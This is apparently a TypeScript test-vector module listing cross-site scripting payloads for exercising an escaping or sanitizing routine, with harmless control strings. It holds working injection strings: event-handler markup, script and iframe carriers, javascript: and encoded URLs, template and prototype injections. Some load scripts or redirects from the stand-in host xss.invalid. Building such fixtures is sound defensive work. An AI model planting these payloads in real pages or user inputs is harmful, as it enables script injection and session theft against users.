/** Texts that would do harm if they were parsed: each kind of markup after each way to break out of its context. */
import naughty from '../vectors/naughty-strings.json' with { type: 'json' };

const WAYS_OUT = [
  ...['', '"', "'", '">', "'>", '`>', '/>', '-->', '--!>', ']]>', '</bdi>', '</code>', '</p></div>', '</title>'],
  ...['</textarea>', '</style>', '</template>', '</noscript>', '<!--', '<![CDATA[', '\u0000', '\ufeff', '${', '{{'],
];

const HANDLERS = [
  ...[
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  ],
  ...[
    '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<x-x tabindex=1 autofocus onfocus=alert(1)>',
  ],
  ...['<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<body onload=alert(1)>'],
  ...[
    '<marquee onstart=alert(1)>',
    '<iframe onload=alert(1)>',
    '<style onload=alert(1)></style>',
    '<dialog open onclose=alert(1)>',
  ],
  ...['<div style="animation-name:x" onanimationstart=alert(1)>', '<button popovertarget=x onbeforetoggle=alert(1)>'],
];

const CARRIERS = [
  ...[
    '<script>alert(1)</script>',
    '<script src=https://xss.invalid/a.js></script>',
    '<script type=module>alert(1)</script>',
  ],
  ...[
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    '<iframe src=javascript:parent.alert(1)>',
    '<object data=https://xss.invalid/>',
  ],
  ...[
    '<embed src=https://xss.invalid/>',
    '<base href=https://xss.invalid/>',
    '<meta http-equiv=refresh content="0;url=https://xss.invalid/">',
  ],
  ...[
    '<link rel=stylesheet href=https://xss.invalid/a.css>',
    '<style>@import "https://xss.invalid/a.css"</style>',
    '<img src=https://xss.invalid/a.png>',
  ],
  ...[
    '<a href=javascript:alert(1)>x</a>',
    '<form action=https://xss.invalid/><button>x</button></form>',
    '<svg><use href="data:image/svg+xml,x#x"/></svg>',
  ],
  ...[
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<svg><foreignObject><img src=x onerror=alert(1)>',
  ],
  ...[
    '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
    '<slot name=complete>',
    '<!--?lit$1$-->',
    '<?lit$?>',
  ],
  ...[
    '<pay-redirect url=https://xss.invalid/ auto-redirect=1>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
];

/** Texts that create no element, but would inject an attribute, a script, a style or a link. */
const ATTRIBUTES = [
  ...[
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    'x onclick=alert(1)',
    '" style="background:url(https://xss.invalid/)',
  ],
  ...[
    'javascript:alert(1)',
    'JaVa\tScRiPt:alert(1)',
    '&#106;avascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
  ],
  ...[
    'expression(alert(1))',
    '</style><style>*{background:url(https://xss.invalid/)}',
    '}*{background:url(https://xss.invalid/)}',
  ],
  ...[
    '&lt;img src=x onerror=alert(1)&gt;',
    '\\u003cimg src=x onerror=alert(1)\\u003e',
    '%3Cscript%3Ealert(1)%3C/script%3E',
  ],
  ...[
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '＜script＞alert(1)＜/script＞',
    'constructor',
    '__proto__',
    'toString',
  ],
  ...[
    '${alert(1)}',
    '{{constructor.constructor("alert(1)")()}}',
    "$&$`$'",
    '\u202e<img src=x onerror=alert(1)>',
    '\ud800<b>',
  ],
];

/** A representative few, for tests in which all would take too long. */
export const SOME: readonly string[] = [...HANDLERS.map((markup) => `"'>${markup}`), ...CARRIERS, ...ATTRIBUTES];

export const ALL: readonly string[] = [
  ...new Set([
    ...[...HANDLERS, ...CARRIERS].flatMap((markup) => WAYS_OUT.map((way) => way + markup)),
    ...ATTRIBUTES,
    ...Object.values(naughty.strings).flat(),
  ]),
];

/** Texts of the same sizes and kinds without anything that looks like markup. */
export const HARMLESS: readonly string[] = [
  'harmless',
  'two words',
  '12',
  '12.50',
  // In groups of four.
  '123456789012',
  'a-b_c',
  'é',
  '銀行',
  'x'.repeat(300),
  '銀'.repeat(200),
  ' ',
  '\u200b',
  // Half of a character, which no QR code can hold.
  '\ud800',
];
